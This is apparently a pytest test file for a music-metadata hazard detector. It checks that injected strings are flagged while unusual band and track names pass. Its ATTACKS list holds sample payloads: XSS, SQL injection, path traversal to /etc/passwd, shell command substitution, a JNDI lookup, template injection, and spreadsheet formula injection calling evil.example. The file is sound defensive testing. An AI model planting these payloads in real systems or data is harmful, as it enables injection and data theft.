"""What could hurt somebody, and what only looks like it: music is full of odd names."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sonoteca.acquire.hazards import RULES, Use, find_hazards, licence_words, shown
from sonoteca.model.finding import FINDINGS

ATTACKS = [
    ('<script>alert("xss")</script>', "T101"),
    ("<img src=x onerror=alert(1)>", "T101"),
    ('" onmouseover="alert(1)" x="', "T101"),
    ("</title><a href=//evil.example>", "T101"),
    ("javascript:alert(1)", "T102"),
    (" VBScript:msgbox", "T102"),
    ("data:text/html,<p>", "T102"),
    ("esc\x1b[31m red", "T103"),
    ("\x1b]0;title\x07", "T103"),
    ("\x9b31m", "T103"),
    ("bell\x07", "T104"),
    ("before\0after", "T105"),
    ("one\r\nX-Header: two", "T106"),
    ("one\u2028two", "T106"),
    ("Song \u202egpj.exe\u202c 3pm", "T107"),
    ("\u2067שלום\u2069 abc", "T107"),
    ("\u200b\u200b", "T108"),
    ("na\ufeffme", "T108"),
    ("\u3164", "T108"),
    ("\ufffe", "T109"),
    ("\ufdd0", "T109"),
    ("\U0010ffff", "T109"),
    ("../../etc/passwd", "T110"),
    ("a/../b", "T110"),
    ("..\\..\\Windows", "T110"),
    ("/etc/passwd", "T111"),
    ("C:\\Windows\\System32", "T111"),
    ("\\\\server\\share", "T111"),
    ("a/b/c", "T111"),
    (".", "T112"),
    ("..", "T112"),
    ("Robert'); DROP TABLE recordings;--", "T113"),
    ("x' OR '1'='1", "T113"),
    ("1 UNION SELECT password", "T113"),
    ("%s%n%x", "T114"),
    ("${jndi:ldap://x/a}", "T114"),
    ("$(id)", "T114"),
    ("`id`", "T114"),
    ("{0.__class__}", "T114"),
    ("{{7*7}}", "T115"),
    ("{% for x in y %}", "T115"),
    ("<?php echo 1 ?>", "T115"),
    ('=HYPERLINK("http://evil.example","x")', "T116"),
    ("=cmd|'/C calc'!A0", "T116"),
    ("@SUM(1+1)", "T116"),
    ("-cmd|x!A1", "T116"),
    (']]></x><!ENTITY a "b">&a;', "T117"),
    ("<!DOCTYPE x>", "T117"),
    ("Мozаrt", "T118"),
    ("раypal", "T118"),
    ("Z" + "\u0301\u0316\u0334" * 20, "T119"),
    ("", "T120"),
    ("   ", "T120"),
    ("L" * 1000, "T121"),
]
MUSIC = [
    "AC/DC",
    "N/A",
    "Love/Hate",
    "1/2",
    "<3",
    "I <3 U",
    "100% Pure",
    "50%",
    "It's Alright; Don't Worry",
    "Don't Stop 'Til You Get Enough",
    "Rock 'n' Roll; Drop Dead",
    "$ell Out",
    "Ke$ha",
    "A$AP Rocky",
    "+44",
    "-",
    "- 1 -",
    "@ the Movies",
    "@onefive",
    "= 3",
    "!!!",
    "...And Justice for All",
    "…",
    "What's Going On?",
    "C:",
    "Op. 27, No. 2: I. Adagio sostenuto",
    "Side A & Side B",
    "R&B; Soul",
    "{Awayland}",
    "[untitled]",
    "#1 Crush",
    "#",
    "Ångström é ü",
    "A\u030angstro\u0308m",
    "Ti\u1ebfng Vi\u1ec7t",
    "👩‍👩‍👧‍👦🏳️‍🌈 ♫",
    "שלום",
    "مرحبا\u200f",
    "می‌خواهم",
    "Привет",
    "Πρελούδιο",
    "東方幻想郷 第1話",
    "AKB48 チーム",
    "Sigur Rós ( )",
    "Μουσική & Rock",
    "μ-Ziq",
    "Δ9",
    "ФДГ – Live",
    "The Union; Select Works",
    "Smoke & Mirrors (feat. $un)",
    "http://example.org/a/b/c",
    "M.I.A. — /\\/\\ /\\ Y /\\",
    "Nothing (from nothing)",
]


@pytest.mark.parametrize(("text", "code"), ATTACKS)
def test_attacks_are_seen(text: str, code: str) -> None:
    assert code in [found for found, _ in find_hazards(text, Use.NAME)]


@pytest.mark.parametrize("text", MUSIC)
def test_music_passes(text: str) -> None:
    assert find_hazards(text, Use.NAME) == []


@pytest.mark.parametrize(
    ("text", "use"),
    [
        ("First line\nsecond line\r\n", Use.TEXT),
        ("long " * 500, Use.TEXT),
        ("", Use.OTHER),
        ("-6.52 dB", Use.OTHER),
        ("7/12", Use.NUMBER),
        ("A1", Use.NUMBER),
        ("garbage", Use.NUMBER),
        ("1999", Use.DATE),
        ("1999-05-04T10:00:00", Use.DATE),
        ("19990504", Use.DATE),
        ("0000", Use.DATE),
        ("sometime in spring", Use.DATE),
        ("ending with a line break\n", Use.NAME),
    ],
)
def test_what_is_right_where_it_stands(text: str, use: Use) -> None:
    assert find_hazards(text, use) == []


@pytest.mark.parametrize(
    ("text", "use", "code"),
    [
        ("-1", Use.NUMBER, "T122"),
        ("1/999999999999", Use.NUMBER, "T122"),
        ("99999-13-45", Use.DATE, "T123"),
        ("2001-02-42", Use.DATE, "T123"),
        ("<b onclick=x>", Use.PATH, "T101"),
        ("esc\x1b[31mred", Use.PATH, "T103"),
        ("gpj\u202egpj", Use.PATH, "T107"),
    ],
)
def test_what_is_wrong_where_it_stands(text: str, use: Use, code: str) -> None:
    assert code in [found for found, _ in find_hazards(text, use)]


@pytest.mark.parametrize(
    ("texts", "codes"),
    [
        (["https://creativecommons.org/publicdomain/zero/1.0/", "All rights reserved"], ["T130"]),
        (["https://creativecommons.org/licenses/by-nc-nd/4.0/"], ["T131"]),
        (["CC BY-SA 4.0", "CC BY-NC 4.0"], ["T130", "T131"]),
        (["https://creativecommons.org/licenses/by-sa/3.0/", "2012 Max McCracken"], []),
        (["(c) 1999, all rights reserved"], []),
        ([], []),
    ],
)
def test_claims_of_rights(texts: list[str], codes: list[str]) -> None:
    assert [code for code, _ in licence_words(iter(texts))] == codes


@given(st.text(), st.sampled_from(Use))
def test_any_text_is_judged_and_shown_harmlessly(text: str, use: Use) -> None:
    for code, piece in find_hazards(text, use):
        assert code in FINDINGS and piece.isprintable()


@given(st.text())
def test_what_is_shown_is_short(text: str) -> None:
    assert shown(text).isprintable() and len(shown(text)) <= 60


def test_every_rule_has_a_meaning() -> None:
    assert all(code in FINDINGS for code, _ in RULES)


def test_time_grows_with_length_only() -> None:
    """Patterns with nested repeats would not come back from these."""
    for piece in ("<", "../", "{{", "`", "&a", " ", "\\a", "%s", "' "):
        for use in Use:
            find_hazards(piece * 100_000, use)
